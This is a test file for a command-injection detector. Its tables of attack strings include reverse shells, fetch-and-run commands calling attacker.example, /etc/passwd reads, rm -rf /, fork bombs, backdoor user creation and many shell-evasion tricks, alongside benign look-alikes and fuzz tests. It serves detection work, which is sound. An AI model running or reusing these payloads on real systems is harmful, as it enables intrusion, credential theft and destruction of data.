import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CMDI_MAX_INPUT, cmdiDetector, cmdiPrefilter } from '../../src/detect/cmdi.js';
import type { ContentProfile } from '../../src/detect/types.js';
import {
  ANY_PARANOIA,
  expectLinearOnNearMatches,
  expectParanoiaNeverLowersScore,
  expectPrefilterKeepsAttacks,
  expectPrefilterKeepsFound,
  expectWellFormedUnderFuzz,
  queryRunner,
  type Row,
} from './helpers.js';
import { cmdiTopScore, expectCmdiSkipsSound } from './cmdi-helpers.js';

const { run, fires } = queryRunner(cmdiDetector);

const ATTACKS: Row[] = [
  // separators
  { input: '; cat /etc/passwd', expect: true },
  { input: 'foo;id', expect: true },
  { input: '|id|', expect: true },
  { input: 'x || whoami', expect: true },
  { input: 'x && uname -a', expect: true },
  { input: '127.0.0.1 & ping -n 30 127.0.0.1 &', expect: true },
  { input: '127.0.0.1\nwhoami', expect: true, note: 'newline separator' },
  { input: "'; /bin/sleep 31 ;", expect: true, note: 'closing a quote first' },
  { input: '"; ls -la /tmp #', expect: true },
  { input: 'a);/usr/bin/id|', expect: true },
  // substitution
  { input: '$(whoami)', expect: true },
  { input: '`id`', expect: true },
  { input: 'x$(cat /etc/passwd)', expect: true },
  { input: 'name=`curl http://attacker.example/x.sh|sh`', expect: true },
  { input: '<(cat /etc/passwd)', expect: true, note: 'process substitution' },
  // evasion
  { input: ";c'a't /etc/passwd", expect: true, note: 'quotes inside the command name' },
  { input: ';c"a"t /etc/passwd', expect: true },
  { input: ';\\c\\a\\t /etc/passwd', expect: true, note: 'backslash escapes' },
  { input: ';cat${IFS}/etc/passwd', expect: true, note: '${IFS} as a space' },
  { input: ';cat$IFS$9/etc/passwd', expect: true },
  { input: ';/???/??t /???/p??s??', expect: true, note: 'wildcards' },
  { input: '/bin/c?t /e??/p?sswd', expect: true },
  { input: ';{cat,/etc/passwd}', expect: true, note: 'brace expansion' },
  { input: ';ca$@t /etc/passwd', expect: true, note: 'empty expansion' },
  { input: ';w$()hoami', expect: true, note: 'empty substitution inside a word' },
  // interpreters and reverse shells
  { input: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', expect: true },
  { input: '; nc -e /bin/sh 10.0.0.1 4444', expect: true },
  { input: "; python -c 'import socket,os'", expect: true },
  { input: "| perl -e 'print 1'", expect: true },
  { input: '; sh -i', expect: true },
  { input: '() { :; }; /bin/bash -c "id"', expect: true, note: 'shellshock' },
  { input: ':(){ :|:& };:', expect: true, note: 'fork bomb' },
  { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: true, note: 'SSI' },
  { input: '; wget http://attacker.example/x -O /tmp/x', expect: true },
  { input: '; curl -s http://attacker.example/a | sh', expect: true },
  // Windows
  { input: '& cmd /c dir c:\\', expect: true },
  { input: '| type c:\\windows\\win.ini', expect: true },
  { input: '%COMSPEC% /c whoami', expect: true },
  { input: '& w^h^o^a^m^i', expect: true, note: 'caret escapes' },
  { input: '; powershell -nop -enc SQBFAFgA', expect: true },
  { input: '| certutil -urlcache -f http://attacker.example/x.exe x.exe', expect: true },
  { input: '& net user hacker P4ss /add', expect: true },
  { input: '; iwr http://attacker.example/x.ps1', expect: true },
  { input: 'for /f "delims=" %a in (\'whoami\') do echo %a', expect: true, note: 'batch for loop' },
  { input: 'ping.exe -n 31 127.0.0.1', expect: true, note: 'command with shell arguments, no separator' },
  { input: 'cat /etc/passwd', expect: true },
  { input: '/usr/bin/id', expect: true },
  { input: '| nslookup attacker.example', expect: true, note: 'host name argument' },
  { input: '|${PATH:0:1}bin${PATH:0:1}id', expect: true, note: 'substring expansion standing for /' },
  { input: '$(</etc/passwd)', expect: true, note: 'file read into the command line' },
  { input: '| %SYSTEMROOT%\\system32\\whoami', expect: true },
  { input: ';echo${IFS}test', expect: true },
  { input: '; ls /', expect: true },
  // profile and paranoia
  { input: '$(id)', expect: true, profile: 'identifier' },
  { input: 'great product; rm -rf /', expect: true, profile: 'free-text' },
  { input: '& id', expect: true, note: 'the whole value is a separator and a command (was PL3 only)' },
  { input: 'Time & date', expect: false, note: 'a phrase, not a lone separator and command' },
  { input: 'whoami', expect: false },
  { input: 'whoami', expect: true, paranoia: 3 },
  {
    input: '; cat /etc/passwd',
    expect: true,
    profile: 'code',
    note: 'a leading breakout still counts in code',
  },
  // detect-a2: broadened grammar
  { input: ';rmt --version', expect: true, note: 'broadened tool list' },
  { input: 'x| htop -d 1', expect: true },
  { input: '& regedit /E c:\\x.reg HKEY_CURRENT_USER', expect: true },
  { input: '; python3.10 -c "import os"', expect: true, note: 'versioned interpreter' },
  { input: ';gcc7.4 -o /tmp/x /tmp/x.c', expect: true },
  { input: 'uname$u -a', expect: true, note: 'empty variable glued into the name' },
  { input: ';cat$u /etc$u/passwd', expect: true },
  { input: 'a=nc&&$a -nlvp 555', expect: true, note: 'command behind a variable' },
  { input: 'garb=adduse[r];$garb pizza', expect: true },
  { input: 'alias eennvv=env&eennvv whoami', expect: true, note: 'command behind an alias' },
  { input: '{,ip,a}', expect: true, note: 'brace expansion with an empty element' },
  { input: '{id,}', expect: true },
  { input: "{,$'whoami',}", expect: true, note: 'ANSI-C quoting' },
  { input: 'if (1) equ (1) echo hey', expect: true, note: 'batch if' },
  { input: 'IF 2 GEQ 15 echo "bigger"', expect: true },
  { input: 'IF "%~1" == "%~2" (EXIT /B 0) ELSE (EXIT /B 1)', expect: true },
  { input: 'if [AA] == [AA] echo same', expect: true },
  { input: 'a; /opt/app/bin/run --now', expect: true, note: 'any binary from a bin directory' },
  { input: '; /usr/local/bin/tool -x', expect: true },
  { input: '$(tool -x /tmp)', expect: true, note: 'unknown command with shell arguments in $()' },
  { input: '${SHELL} -c "echo hi"', expect: true },
  {
    input: ';iwmi -class Win32_process -name Create -ArgumentList cmd',
    expect: true,
    note: 'PowerShell flags',
  },
  { input: 'ping 127.0.0.1', expect: false, note: 'a lone host argument: PL2' },
  { input: 'ping 127.0.0.1', expect: true, paranoia: 2 },
  // detect-cmdi-c: tool names with plain arguments, launchers, evasions
  { input: 'useradd backdoor', expect: true, note: 'a value that is a tool command line' },
  { input: 'apt-get remove nginx', expect: true },
  { input: 'Invoke-Expression payload', expect: true, note: 'PowerShell cmdlet with an argument' },
  { input: '| wget payload', expect: true, note: 'tool name with a plain argument after a separator' },
  { input: 'time uname', expect: true, note: '`time` in front of a tool name' },
  { input: 'nohup date', expect: true, note: 'a launcher that is no word' },
  { input: 'strace cat', expect: true },
  { input: 'uname;x', expect: true, note: 'a tool name chained by a separator' },
  { input: 'c"u"rl evil.example', expect: true, note: 'quotes splitting the name at the value start' },
  { input: 'wh$@oami', expect: true, note: 'special parameter glued inside the name' },
  { input: 'wh<()oami', expect: true, note: 'empty process substitution inside the name' },
  { input: 'kill "-"9 1', expect: true, note: 'quotes splitting an argument' },
  { input: '${`whoami`}', expect: true, note: 'substitution wrapped in a parameter expansion' },
  { input: '${$(id)}', expect: true },
  { input: 'a=who;b=ami;$a$b', expect: true, note: 'a command spelled from variables' },
  { input: 'x=y=nc;$y -e /bin/sh h 1', expect: true, note: 'query-style prefix before the assignment' },
  { input: 'alias ll=rm', expect: true, note: 'defining an alias' },
  { input: '; alias x="curl -s"', expect: true },
  { input: '1;.shell cat /etc/hosts', expect: true, note: 'SQLite dot-command running a program' },
  { input: 'x;\n.system id', expect: true, note: 'escaped newline before a dot-command' },
  { input: "';\n.tables", expect: true, note: 'SQLite dot-command on its own line' },
  { input: 'cat /[e]tc/pas[s]wd', expect: true, note: 'bracket sets in a sensitive path' },
  { input: 'ls /[v]ar', expect: true },
  { input: '/[b/]in', expect: true, note: 'bracket set holding a slash' },
  { input: '{un,xx}ame -a', expect: true, note: 'brace expansion glued into the name' },
  { input: 'c{a,u}t x', expect: true },
  { input: 'boom(){ boom|boom& };boom', expect: true, note: 'named fork bomb' },
  { input: 'go(){ id; }; go', expect: true, note: 'function defined and called' },
  { input: '$[7*7]', expect: true, note: 'bash arithmetic' },
  { input: '$(( 6*7 ))', expect: true },
  { input: '${v##*/}', expect: true, note: 'parameter expansion with an operator' },
  { input: '${#HOME}', expect: true },
  { input: 'IF NOT "%x%"=="" (DEL x)', expect: true, note: 'batch if with a block' },
  { input: 'if/i %a%==b echo y', expect: true },
  { input: 'if not (1 neq 2) dir', expect: true, note: 'parenthesised condition' },
  { input: 'for /f "tokens=*" %x in (\'dir /b\') do type %x', expect: true },
  { input: 'for /f %x in (`dir`) do echo %x', expect: true, note: 'backticks inside the for set' },
  { input: ';at 23:59 "del x"', expect: true, note: 'Windows scheduler' },
  { input: '& ipconfig/all', expect: true, note: 'switch glued to the command' },
  { input: "; trap 'curl -s evil.example' INT", expect: true, note: 'trap running a command' },
  { input: '| sh # trailing comment', expect: true, note: 'a comment ends the command' },
  { input: ';column passwd', expect: true, note: 'account file named without its directory' },
  { input: '; vim f +\\!id', expect: true, note: 'editor started with an ex command running a shell' },
  { input: 'vim f \\!id', expect: false, note: 'editor shell escape at the value start: PL2' },
  { input: 'vim f \\!id', expect: true, paranoia: 2 },
  { input: 'lastlog', expect: false, note: 'a lone tool name: PL3' },
  { input: 'lastlog', expect: true, paranoia: 3 },
  { input: '127.0.0.1\nid', expect: true, note: 'a probe command alone on an injected line' },
  // mail protocol lines after a line break
  { input: 'x\r\nRCPT TO:<victim@example.org>', expect: true, note: 'SMTP' },
  { input: 'me@example.org\nMAIL FROM:<x@example.org>', expect: true },
  { input: '\r\nEHLO relay.example.net', expect: true },
  { input: '\r\nRETR 7', expect: true, note: 'POP3' },
  { input: '\r\nAPOP bob 0123456789abcdef0123456789abcdef', expect: true },
  { input: '\r\nb12 FETCH 1:3 (FLAGS)', expect: true, note: 'IMAP' },
  { input: '\r\nk9 LIST "" "%"', expect: true },
  { input: '\r\nQUIT', expect: false, note: 'a lone verb: PL3' },
  { input: '\r\nQUIT', expect: true, paranoia: 3 },
];

const BENIGN: Row[] = [
  { input: 'cat', expect: false },
  { input: 'ping', expect: false },
  { input: 'my cat likes to sleep all day', expect: false },
  { input: 'Tom & Jerry', expect: false },
  { input: 'R&D; sales & marketing', expect: false },
  { input: 'salt & pepper; more salt', expect: false },
  { input: 'rock & more', expect: false },
  { input: 'I saw the cat; it was asleep', expect: false, profile: 'free-text' },
  { input: 'Use the `ls` command to list files', expect: false, profile: 'free-text' },
  {
    input: '| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@b.c |',
    expect: false,
    profile: 'free-text',
  },
  { input: 'Run `ls -la | grep foo` to find it', expect: false, profile: 'free-text' },
  { input: 'ping me when you are done', expect: false },
  { input: 'time flies; date night at 8', expect: false },
  { input: 'https://example.com/a?b=1&id=5&c=cat', expect: false },
  { input: 'a=1&b=2&type=3', expect: false },
  { input: 'john.doe@example.com', expect: false },
  { input: '1-800-555-0199', expect: false },
  { input: 'C:\\Users\\ann\\Documents\\report.docx', expect: false },
  { input: '/home/ann/photos/cat.jpg', expect: false },
  { input: '/var/lib/app', expect: false },
  { input: 'Price: $5 (was $7) & free shipping', expect: false },
  { input: '{"name":"Ann","tags":["a|b","c;d"]}', expect: false },
  { input: 'c/ caridad s/n', expect: false },
  { input: 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', expect: false },
  { input: 'session=abc; theme=dark; id=42', expect: false },
  { input: 'Johnson & Johnson; Procter & Gamble', expect: false },
  { input: '| Date | Time | Score |\n| 2020 | 10:00 | 3 |', expect: false, note: 'text table' },
  { input: 'Lancaster (SC) HS', expect: false },
  { input: 'Hello {file} and {name}', expect: false, note: 'template placeholders' },
  {
    input: 'lines=$(wc -l < "$f")\necho "$lines"',
    expect: false,
    profile: 'free-text',
    note: 'script pasted as text',
  },
  { input: 'return str.replace(/[aeiou]/gi, "")', expect: false },
  { input: 'int main() {\n  int a[] = {1, 2};\n  return 0;\n}', expect: false, profile: 'free-text' },
  { input: "1' or sleep(5)#", expect: false, note: 'SQL, not shell' },
  { input: '1) rlike (select * from (select(sleep(5)))a)#', expect: false },
  { input: '/../../{file}', expect: false },
  // detect-a2 neighbours of the new shapes
  { input: 'If I want; top it off', expect: false },
  { input: 'cats; dogs; make', expect: false },
  { input: 'Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)', expect: false, paranoia: 2 },
  { input: 'price=ar$a', expect: false, paranoia: 2 },
  { input: 'if you == me then we win', expect: false },
  { input: 'myfunction(){ echo hello }', expect: false, note: 'a named function body may be JS' },
  { input: '{name,}', expect: false },
  { input: '{id,name}', expect: false },
  { input: '{"a":1,"b":[1,2]}', expect: false },
  { input: 'a=1&b=2&type=3&x=cat', expect: false },
  { input: '$(document).ready(init)', expect: false },
  { input: '/opt/app/bin/run', expect: false },
  { input: 'see /home/me/bin/x for details', expect: false },
  { input: 'C:\\Windows\\System32\\notepad.exe', expect: false },
  { input: 'Buy milk; eggs | bread & cheese', expect: false },
  { input: 'Meeting at 10; bring the report | slides', expect: false, profile: 'free-text' },
  { input: 'python3.10 is installed', expect: false },
  { input: 'find . -name "*.log" -exec rm {} \\;', expect: false, profile: 'code' },
  { input: 'for i in $(seq 1 10); do echo $i; done', expect: false, profile: 'free-text' },
  { input: 'if "%1"=="" goto usage', expect: false, profile: 'code' },
  // shell in a code profile is legitimate
  { input: 'ls -la | grep foo && echo done', expect: false, profile: 'code' },
  { input: 'for f in $(find . -name "*.log"); do gzip "$f"; done', expect: false, profile: 'code' },
  { input: "USAGE=$(df /home | tail -1 | awk '{print $5}')", expect: false, profile: 'code' },
  // detect-cmdi-c neighbours of the new shapes
  { input: "I'd like a table for two", expect: false, note: 'a lone apostrophe is no evasion' },
  { input: "we'd love to", expect: false },
  { input: 'python tutorial for beginners', expect: false, note: 'a language name is a topic' },
  { input: 'docker compose up', expect: false },
  { input: 'wget is the download tool I use every single day', expect: false, note: 'prose about a tool' },
  { input: 'Lexus LS 460', expect: false },
  { input: 'B & W', expect: false },
  { input: 'Total: ${price}', expect: false, note: 'template placeholder' },
  { input: '${a/b} and ${count%2}', expect: false, note: 'template arithmetic' },
  { input: 'n=$((n+1))', expect: false, note: 'arithmetic assigned: script style' },
  { input: 'sum=$((a + b)) total', expect: false, note: 'arithmetic assigned: script style' },
  { input: 'if (a == b) return x;', expect: false },
  { input: 'if x == 1: print(x)', expect: false },
  { input: 'if (i % 2 !== 0) { odd++; }', expect: false, note: 'a modulo is no batch variable' },
  { input: 'if (it.find(c) == it.end()) {', expect: false },
  { input: 'render(){ return 1; }', expect: false },
  { input: 'file{1,2}.txt', expect: false },
  { input: 'w/o sugar and/or milk', expect: false },
  { input: 'Dear team,\nlist 3 options below\nthanks', expect: false, note: 'prose lines, not POP3' },
  { input: 'Notes\nQuit smoking\nData science course', expect: false },
  { input: 'Hi!cat lovers unite', expect: false },
  { input: 'alias John Smith', expect: false },
  { input: 'set passwd', expect: false },
  { input: '~+5 points', expect: false },
  { input: 'Meeting\ndate', expect: false, note: 'a word on a second line' },
  { input: 'Name: Ann\nid', expect: false },
];

describe('cmdi detector: table', () => {
  it.each([...ATTACKS, ...BENIGN])('$input ($profile, PL$paranoia) → $expect', (row) => {
    const got = fires(row.input, row.profile ?? 'generic', row.paranoia ?? 1);
    expect(got, row.note ?? row.input).toBe(row.expect);
  });

  it('reports a well-formed finding for an attack', () => {
    const value = 'abc; cat /etc/passwd';
    const [f] = run(value);
    expect(f).toBeDefined();
    expect(f!.category).toBe('injection');
    expect(f!.subtype).toBe('cmdi');
    expect(f!.detector).toBe('cmdi');
    expect(f!.location).toBe('query.q');
    expect(f!.score).toBeGreaterThanOrEqual(0.85);
    expect(f!.severity).toBe('critical');
    expect(value).toContain(f!.fragment!);
    expect(f!.fragment).toContain('cat /etc/passwd');
  });

  it('higher paranoia never lowers a score', () => expectParanoiaNeverLowersScore(cmdiDetector, ATTACKS));

  it('only inspects the start of a huge value', () => {
    const padding = 'a'.repeat(CMDI_MAX_INPUT);
    expect(fires('; cat /etc/passwd')).toBe(true);
    expect(fires(`${padding}; cat /etc/passwd`)).toBe(false);
  });
});

describe('cmdi detector: fuzz', () => {
  const profiles = fc.constantFrom<ContentProfile>(
    'generic',
    'identifier',
    'free-text',
    'url',
    'code',
    'markup',
  );
  const shellish = fc
    .array(
      fc.constantFrom(
        ';',
        '|',
        '||',
        '&',
        '&&',
        '\n',
        '$(',
        ')',
        '`',
        '${IFS}',
        '$IFS$9',
        '{',
        '}',
        ',',
        "'",
        '"',
        '\\',
        '^',
        ' ',
        'cat',
        'id',
        '/etc/passwd',
        '/???/',
        '-c',
        '>',
        '2>&1',
        '<(',
        '()',
        '%COMSPEC%',
        'for',
        '%a',
        'in',
        'do',
        'é',
        '\r\n',
        'RETR 1',
        'a1 fetch 1 (flags)',
        '$[',
        ']',
        '${x#',
        '{l,',
        '}s',
        'alias x=',
        '.shell',
        '<()',
        '$@',
        'if',
        '==',
        '%x%',
        'time',
        'f(){ f|f& };f',
        '\\n',
        '[e/]',
      ),
      { maxLength: 40 },
    )
    .map((parts) => parts.join(''));

  it('never throws and returns well-formed findings', () => {
    expectWellFormedUnderFuzz(
      cmdiDetector,
      {
        value: fc.oneof(
          fc.string({ maxLength: 300 }),
          fc.string({ unit: 'binary', maxLength: 100 }),
          shellish,
        ),
        profile: profiles,
        paranoia: ANY_PARANOIA,
      },
      {
        fixed: { location: 'body.$.x', source: 'body' },
        numRuns: 500,
        subtype: 'cmdi',
        requireFragment: true,
      },
    );
  });
});

describe('cmdi detector: adversarial input', () => {
  it.each([
    '$(',
    '`',
    '${IFS',
    '${',
    '{cat,',
    '; cat ',
    '/???/',
    "c'a't ",
    '() {',
    '& for %a in (',
    '\nRETR 1',
    '${x#',
    '$[',
    '{l,-a}s',
    'f(){ f|',
    'if %a%==',
    'a=b;$a',
    '/[e/]',
    '${`',
  ])('1 MB of %j completes quickly', (unit) => {
    expectLinearOnNearMatches(cmdiDetector, [unit], { where: { location: 'query.q' } });
  });
});

describe('cmdi prefilter', () => {
  const topScore = cmdiTopScore;

  const keeps = (v: string) => cmdiPrefilter(v) === 0;

  it('never skips an attack row of the table', () => expectPrefilterKeepsAttacks(keeps, ATTACKS, 50));

  it('never skips a row of the table that the full analysis scores 0.3 or more', () =>
    expectPrefilterKeepsFound(keeps, [...ATTACKS, ...BENIGN], (v) => topScore(v) >= 0.3));

  it('skips typical benign values: words, numbers, names, e-mails, sentences', () => {
    for (const v of [
      'shipping',
      '123456789',
      '19.99',
      "Pat O'Brien",
      'user123@example.com',
      'the customer asked about delivery, please call before noon.',
      'SKU-123456',
      '2025-11-26T01:25:00Z',
      'https://shop.example.com/p/4513?ref=mail',
    ]) {
      expect(cmdiPrefilter(v), v).toBe(1);
      expect(topScore(v), v).toBe(-1);
    }
    // a lone word that is also a weak command: scored, but far below what is reported
    for (const v of ['true', 'date', 'cat']) {
      expect(cmdiPrefilter(v), v).toBe(2);
      expect(topScore(v), v).toBeLessThan(0.3);
    }
  });

  it('keeps what needs the analysis: commands first, prefix words, batch keywords, versions', () => {
    for (const v of [
      'whoami',
      'ping 10.0.0.1',
      'sudo id',
      'time id',
      'for x',
      'if exist x',
      'python3.10 -c x',
    ])
      expect(cmdiPrefilter(v), v).toBe(0);
    for (const v of ["wh'o'ami", 'php8', 'cmd.exe', 'cat x', "c'a't"]) expect(cmdiPrefilter(v), v).toBe(0);
    for (const v of ['/bin/sh', "'/etc/x", 'x/Dev/tcp/1.2.3.4/80', 'a/whoami', 'x?a=1 b'])
      expect(cmdiPrefilter(v), v).toBe(0);
  });

  it('skips nothing the full analysis would report (generated values)', () => {
    const words = [
      ...['x', 'the', 'name', 'cat', 'whoami', 'ping', 'sleep', 'time', 'date', 'sudo', 'for', 'if', 'ls'],
      ...['nc', 'bash', 'python3', 'php8', 'cmd.exe', 'true', 'id', 'alias', 'a=nc', '1', '10.0.0.1'],
      ...['https://x.y/p?a=1', 'a/b', '/dev/tcp/1.2.3.4/80', 'x/bin/ls', 'ref=curl', 'a/whoami', 'q?x=id'],
      ...['rc', 'fish', 'x.sh', '!!', '!1', '!-1', '--version', '-o', 'vim', '+!id', 'find', '-exec', 'env'],
    ];
    const puncts = [
      ' ',
      ' ',
      ' ',
      ',',
      '.',
      "'",
      '"',
      '@',
      '-',
      ':',
      '?',
      '#',
      ';',
      '|',
      '&',
      '$',
      '/',
      '(',
      '=',
    ];
    expectCmdiSkipsSound(words, puncts, { maxLength: 10, numRuns: 3000, seed: 13, minSkipped: 300 });
  });
});
